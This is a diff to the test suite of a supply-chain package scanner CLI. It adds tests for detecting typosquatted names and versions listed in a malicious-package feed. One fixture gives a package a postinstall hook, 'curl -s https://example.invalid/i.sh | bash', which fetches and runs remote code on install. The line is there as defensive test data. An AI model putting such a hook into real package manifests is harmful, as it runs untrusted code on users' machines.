@@ -10,7 +10,7 @@ let good: string;
 beforeAll(async () => {
   work = await tempDir('sscs-scan-cli-');
   bad = await packTree(work.dir, 'bad', { scripts: { postinstall: 'curl -s https://example.invalid/i.sh | bash' } });
-  good = await packTree(work.dir, 'good', { main: 'index.js' }, { 'index.js': 'module.exports = 1;\n', 'scripts/fmt.js': "require('child_process').execSync('prettier --write .');\n" });
+  good = await packTree(work.dir, 'good-package', { main: 'index.js' }, { 'index.js': 'module.exports = 1;\n', 'scripts/fmt.js': "require('child_process').execSync('prettier --write .');\n" });
 });
 afterAll(() => work.cleanup());
 
@@ -39,7 +39,7 @@ describe('sscs scan', () => {
   it('exits 0 on a clean package', async () => {
     const r = await runCli(['scan', good]);
     expect(r).toMatchObject({ exitCode: 0 });
-    expect(r.stdout).toMatch(/^good@1\.0\.0: 5 entries, \d+ bytes\nno findings; fail-on high: ok\n$/);
+    expect(r.stdout).toMatch(/^good-package@1\.0\.0: 5 entries, \d+ bytes\nno findings; fail-on high: ok\n$/);
   });
 
   it('scans a folder, reporting a link out of it', async () => {
@@ -62,5 +62,23 @@ describe('sscs scan', () => {
     const flag = await runCli(['scan', bad, '--fail-on', 'severe']);
     expect(flag.exitCode).toBe(2);
     expect(flag.stderr).toContain("--fail-on must be one of low, medium, high, critical, none, not 'severe'");
+  });
+});
+
+describe('sscs scan: package identity', () => {
+  it('reports a typosquat name and a version listed by the malicious feed', async () => {
+    const tgz = await packTree(work.dir, 'expres-helper', { version: '1.0.2' });
+    const typo = await packTree(work.dir, 'lodahs', {});
+    const feed = new URL('./fixtures/osv', import.meta.url).pathname;
+    const r = await runCli(['scan', tgz, '--malicious-feed', feed, '--format', 'json']);
+    expect(r.exitCode).toBe(1);
+    expect(JSON.parse(r.stdout).findings).toEqual([
+      { rule: 'known-malicious', severity: 'critical', file: 'package.json', evidence: 'expres-helper@1.0.2', message: 'listed as malicious by MAL-2025-90001' },
+    ]);
+    const t = await runCli(['scan', typo, '--format', 'json']);
+    expect(t.exitCode).toBe(0);
+    expect(JSON.parse(t.stdout).findings).toEqual([
+      { rule: 'typosquat', severity: 'medium', file: 'package.json', evidence: 'lodahs', message: 'name imitates the popular package lodash' },
+    ]);
   });
 });
